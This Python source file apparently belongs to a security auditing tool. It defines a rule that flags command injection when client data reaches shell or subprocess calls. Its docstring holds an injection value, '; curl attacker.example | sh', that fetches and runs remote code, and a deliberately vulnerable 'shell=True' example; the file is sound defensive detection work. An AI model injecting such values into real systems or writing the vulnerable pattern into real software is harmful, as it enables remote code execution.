"""A command from a message.

What:
    The server runs a command that the client sends, or a shell command that contains its data.

Why:
    With `; curl attacker.example | sh` in a field, the client runs another command.

Example:
    subprocess.run("ping " + data["host"], shell=True)

Instead:
    subprocess.run(["ping", "-c1", "--", host(data["host"])], timeout=5)

Fix:
    Give a list of arguments that starts with a fixed program, without `shell=True`, and check
    each value.
"""

import re
from collections.abc import Iterable, Iterator

from stormdoor_audit.auditor.facts.arguments import given_at
from stormdoor_audit.auditor.facts.sinks import argument, from_client, is_called, reaching, sunk
from stormdoor_audit.auditor.facts.spelling import Spelling
from stormdoor_audit.auditor.interpreter.events import Event
from stormdoor_audit.auditor.interpreter.values import Const, Sequence, Value
from stormdoor_audit.auditor.judging.endpoint import Endpoint
from stormdoor_audit.auditor.naming.words import words
from stormdoor_audit.auditor.rule import Found, rule
from stormdoor_audit.report.finding import Check, Confidence, Level

__all__ = ["RULE"]

_SHELLS = words(
    """
    os.system os.popen asyncio.create_subprocess_shell subprocess.getoutput
    subprocess.getstatusoutput commands.getoutput
    """
)
_PROGRAMS = words(
    """
    subprocess.run subprocess.call subprocess.check_call subprocess.Popen
    subprocess.check_output asyncio.create_subprocess_exec os.execv os.execvp
    tornado.process.Subprocess pexpect.spawn pexpect.run
    """
)


_READERS = re.compile(
    r"(?:^|[/\\])(?:(?:ba|z|da|k|a)?sh|cmd|powershell|pwsh|python[\d.]*|perl|ruby|node)(?:\.exe)?$"
)
_OPTION = re.compile(r"-[a-z]*[ce]|/[ck]|-Command", re.IGNORECASE)
"""Option of a shell or of an interpreter that precedes a program."""
_QUOTES = frozenset({"shlex.quote", "pipes.quote"})


def _check(endpoint: Endpoint) -> Iterator[Found]:
    spelling = Spelling(endpoint, _QUOTES)
    for event in reaching(endpoint, 0, ("cmd",), *_SHELLS):
        if _is_free(spelling, event, "cmd"):
            yield sunk(endpoint, event, f"A shell interprets data of the client: {event.text}().")
    for event in reaching(endpoint, 0, ("args",), *_PROGRAMS):
        given = argument(event, 0, "args")
        shell = dict(event.words).get("shell")
        in_shell = shell is not None and not (isinstance(shell, Const) and not shell.value)
        listed = isinstance(given, Sequence) and not in_shell
        # A list: its first item is the program, the others are arguments of it.
        if listed and isinstance(given, Sequence) and not any(map(from_client, given.items[:1])):
            if _is_read_as_a_program(given.items) and _is_free(spelling, event, "args"):
                yield sunk(
                    endpoint, event, f"A shell interprets data of the client: {event.text}()."
                )
            continue
        if _is_free(spelling, event, "args"):
            yield sunk(endpoint, event, f"The client chooses the command: {event.text}().")
    for event in endpoint.calls("asyncio.create_subprocess_exec"):
        if event.module.inside and _is_read_as_a_program(event.values):
            yield sunk(endpoint, event, f"A shell interprets data of the client: {event.text}().")


def _is_read_as_a_program(items: Iterable[Value]) -> bool:
    """`["bash", "-c", text]`: what comes behind the option is a program."""
    texts = [one.value if isinstance(one, Const) else None for one in items]
    if not texts or not isinstance(texts[0], str) or not _READERS.search(texts[0]):
        return False
    for at, one in enumerate(texts[1:], 1):
        if not isinstance(one, str) or not one.startswith(("-", "/")):
            return False  # a script: what follows is for it
        if _OPTION.fullmatch(one):
            return any(map(from_client, list(items)[at + 1 : at + 2]))
    return False


def _is_free(spelling: Spelling, event: Event, word: str) -> bool:
    return not is_called(event) or spelling.is_free(event, given_at(event, 0, word))


RULE = rule(
    __doc__,
    id="SD505",
    slug="command-from-message",
    level=Level.ERROR,
    confidence=Confidence.HIGH,
    group="messages",
    cwe=(78,),
    asvs=("1.2.5",),
    threat="message-injection",
    check=Check.VALIDATION,
    on_endpoint=_check,
)
